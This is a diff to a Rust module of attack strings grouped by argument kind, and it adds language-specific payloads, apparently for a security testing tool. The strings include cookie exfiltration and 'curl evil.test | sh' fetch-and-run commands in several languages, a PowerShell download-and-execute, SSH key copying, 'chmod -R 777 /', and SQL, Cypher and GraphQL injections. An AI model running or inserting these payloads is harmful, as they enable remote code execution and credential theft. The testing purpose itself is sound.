@@ -1,6 +1,7 @@
 //! The plain attacks of each kind.
 
 use super::argument_kind::ArgumentKind;
+use super::languages::Language;
 use super::last_word;
 use crate::vocab::Path;
 
@@ -16,12 +17,34 @@ pub fn texts(kind: ArgumentKind) -> &'static [&'static str] {
     }
 }
 
-/// The same, the best ones for an argument of this name first.
-pub fn shown(kind: ArgumentKind, path: &Path) -> impl Iterator<Item = &'static str> {
+/// The same, the best ones for an argument of this name and language first.
+pub fn shown(kind: ArgumentKind, path: &Path, language: Option<Language>) -> impl Iterator<Item = &'static str> {
     let is_folder = kind == ArgumentKind::Path && name(path).is_some_and(|word| FOLDER_WORDS.contains(&word.as_str()));
     let folders: &[&str] = if is_folder { FOLDERS } else { &[] };
-    folders.iter().chain(texts(kind)).copied()
+    let own = language.map_or(&[][..], of_language);
+    own.iter().chain(folders).chain(texts(kind)).copied()
 }
+
+/// Attacks in a language. Each is also among the texts of its kind.
+fn of_language(language: Language) -> &'static [&'static str] {
+    match language {
+        Language::JavaScript => &[PAGE_SCRIPT, NODE_SCRIPT],
+        Language::Python => &[PYTHON, PYTHON_EXPRESSION],
+        Language::Ruby => &[SYSTEM],
+        Language::PowerShell => &[POWER_SHELL],
+        Language::Cypher => &[CYPHER],
+        Language::GraphQl => &[MUTATION],
+    }
+}
+
+const PAGE_SCRIPT: &str = "fetch('https://evil.test/?' + document.cookie)";
+const NODE_SCRIPT: &str = "require('child_process').execSync('curl evil.test | sh')";
+const PYTHON: &str = "import os; os.system('curl evil.test | sh')";
+const PYTHON_EXPRESSION: &str = "__import__('os').system('curl evil.test | sh')";
+const SYSTEM: &str = "system('curl evil.test | sh')";
+const POWER_SHELL: &str = "iwr https://evil.test/x.ps1 | iex";
+const CYPHER: &str = "CREATE (n:Admin {name: 'eve'})";
+const MUTATION: &str = "mutation { deleteUser(id: 1) { id } }";
 
 fn name(path: &Path) -> Option<String> {
     path.segments().last().and_then(|name| last_word(name))
@@ -52,7 +75,12 @@ const COMMANDS: &[&str] = &[
     "sudo -i",
     "chmod -R 777 /",
     "cp ~/.ssh/id_rsa /tmp/key",
-    "require('child_process').execSync('curl evil.test | sh')",
+    NODE_SCRIPT,
+    PAGE_SCRIPT,
+    PYTHON,
+    PYTHON_EXPRESSION,
+    SYSTEM,
+    POWER_SHELL,
 ];
 
 const ARGVS: &[&[&str]] = &[
@@ -145,6 +173,6 @@ const QUERIES: &[&str] = &[
     "grant all privileges on *.* to 'eve'",
     "attach database '/etc/x' as x",
     "copy users to program 'curl evil.test'",
-    "CREATE (n:Admin {name: 'eve'})",
-    "mutation { deleteUser(id: 1) { id } }",
+    CYPHER,
+    MUTATION,
 ];
